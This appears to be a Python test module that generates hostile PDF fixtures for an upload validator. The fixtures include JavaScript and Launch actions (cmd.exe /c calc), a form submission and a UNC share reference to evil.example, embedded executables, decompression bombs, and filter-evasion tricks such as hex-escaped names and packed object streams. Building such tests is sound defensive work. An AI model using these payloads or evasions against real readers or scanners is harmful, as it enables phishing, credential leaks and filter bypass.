"""PDFs that nobody should hand in, and the parts such files are made of (tests/hostile_files.py has the others)."""

import zlib
from dataclasses import dataclass

# What has to become of a file.
REFUSED = "refused"  # a form says why; nothing is stored
TAKEN = "taken"  # stored, under a safe name, as what it is, without what was hidden in it
LOCKED = "locked"  # stored, and nobody gets it, because the scanner found something


@dataclass(frozen=True)
class Hostile:
    family: str
    label: str
    content: bytes
    verdict: str
    name: str = "report.pdf"
    content_type: str = "application/pdf"


def pdf(inside=b"", *, objects=b"", head=b"%PDF-1.7\n", end=b"%%EOF\n"):
    """A whole PDF of one empty page, with more in its catalogue or more objects."""
    return (
        head + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inside + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
        + objects
        + b"trailer\n<< /Root 1 0 R >>\n"
        + end
    )


def stream(content, dictionary=b"", number=9):
    return (
        b"%d 0 obj\n<< /Length %d " % (number, len(content))
        + dictionary
        + b" >>\nstream\n"
        + content
        + b"\nendstream\nendobj\n"
    )


def packed(inside, filters=b"/Filter /FlateDecode"):
    """An object stream: the place where a search of the open file does not look."""
    body = b"10 0 " + inside
    content = zlib.compress(body) if b"Flate" in filters or b"/Fl" in filters else body
    return stream(content, b"/Type /ObjStm /N 1 /First 5 " + filters)


# What a PDF can do to its reader: (label, entry of a dictionary).
DEEDS = [
    ("JavaScript", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    ("JavaScript in a stream", b"/OpenAction << /S /JavaScript /JS 9 0 R >>"),
    ("JavaScript on leaving", b"/AA << /WC << /S /JavaScript /JS (x) >> >>"),
    ("JavaScript by name", b"/Names << /JavaScript 9 0 R >>"),
    ("a program", b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    ("a program for Windows", b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    ("an embedded file", b"/Names << /EmbeddedFiles 9 0 R >>"),
    (
        "an attached file",
        b"/Annots [ << /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 9 0 R >> >> >> ]",
    ),
    ("an associated file", b"/AF [ << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> ]"),
    ("XFA", b"/AcroForm << /XFA 9 0 R >>"),
    ("rich media", b"/Annots [ << /Subtype /RichMedia >> ]"),
    ("a rendition with a script", b"/OpenAction << /S /Rendition /JS (x) >>"),
    ("a form that sends itself", b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
    ("imported data", b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
    ("a document within", b"/OpenAction << /S /GoToE /F (a.pdf) >>"),
    ("a share of Windows", b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0] >>"),
    ("a script as address", b"/A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
]


def deeds():
    """Each deed in the open, in disguise, in an object stream and between a false stream and its end."""
    for label, deed in DEEDS:
        yield Hostile("PDF that acts", label, pdf(deed), REFUSED)
        yield Hostile("PDF that acts", f"{label}, spelled in digits", pdf(escaped(deed)), REFUSED)
        yield Hostile(
            "PDF that hides", f"{label}, packed", pdf(objects=packed(b"<< " + deed + b" >>")), REFUSED
        )
        yield Hostile(
            "PDF that hides",
            f"{label}, packed and spelled in digits",
            pdf(objects=packed(b"<< " + escaped(deed) + b" >>", b"/Filter [ /Fl ]")),
            REFUSED,
        )
        yield Hostile("PDF that hides", f"{label}, added later", pdf() + pdf(deed, head=b""), REFUSED)


def escaped(deed):
    """/JavaScript -> /#4aavaScript: the first letter of every name in digits."""
    parts = deed.split(b"/")
    return parts[0] + b"".join(
        b"/#%02x" % part[0] + part[1:] if part[:1].isalpha() else b"/" + part for part in parts[1:]
    )


def hidden():
    action = b"<< /S /JavaScript /JS (x) >>"
    kinds = {
        "between a false stream and its end": pdf(
            objects=b"% stream\n7 0 obj " + action + b" endobj\n% endstream\n"
        ),
        "in a string that says stream": pdf(objects=b"(stream) 7 0 obj " + action + b" endobj (endstream)\n"),
        "packed without a filter": pdf(objects=packed(action, b"")),
        "packed in a way nobody needs": pdf(objects=packed(action, b"/Filter /ASCIIHexDecode")),
        "packed twice": pdf(objects=packed(action, b"/Filter [ /FlateDecode /FlateDecode ]")),
        "packed with a predictor": pdf(
            objects=packed(action, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")
        ),
        "packed under a type in digits": pdf(objects=packed(action).replace(b"/ObjStm", b"/#4fbj#53tm")),
        "packed, the type left out": pdf(objects=packed(action).replace(b"/Type /ObjStm", b"")),
        "packed, then damaged": pdf(objects=packed(action).replace(b"x\x9c", b"x\x9d")),
        "packed a thousandfold": pdf(objects=packed(b" " * 40_000_000)),
        "packed many times over": pdf(objects=b"".join(packed(b" " * 4_000_000) for _ in range(12))),
        "packed, its end inside": pdf(
            objects=stream(
                zlib.compress(b"10 0 endstream " + action, 0),
                b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
            )
        ),
    }
    for label, content in kinds.items():
        yield Hostile("PDF that hides", label, content, REFUSED)
    protected = {
        "a password": pdf(objects=b"").replace(b"/Root", b"/Encrypt 9 0 R /Root"),
        "a password in digits": pdf().replace(b"/Root", b"/#45ncrypt 9 0 R /Root"),
        "a restriction": pdf().replace(b"/Root", b"/Encrypt << /Filter /Standard /V 4 /P -3904 >> /Root"),
        "a public key": pdf().replace(b"/Root", b"/Encrypt << /Filter /Adobe.PubSec >> /Root"),
    }
    for label, content in protected.items():
        yield Hostile("PDF that is protected", label, content, REFUSED)
